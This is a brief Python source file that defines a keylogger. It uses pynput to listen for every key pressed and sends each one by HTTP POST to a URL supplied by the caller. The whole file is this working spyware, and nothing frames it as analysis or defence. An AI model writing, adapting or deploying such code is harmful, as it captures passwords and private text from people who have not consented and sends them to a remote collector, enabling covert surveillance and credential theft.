import requests
from pynput import keyboard


def start(url):
    listener = keyboard.Listener(on_press=lambda key: requests.post(url, data=str(key)))
    listener.start()
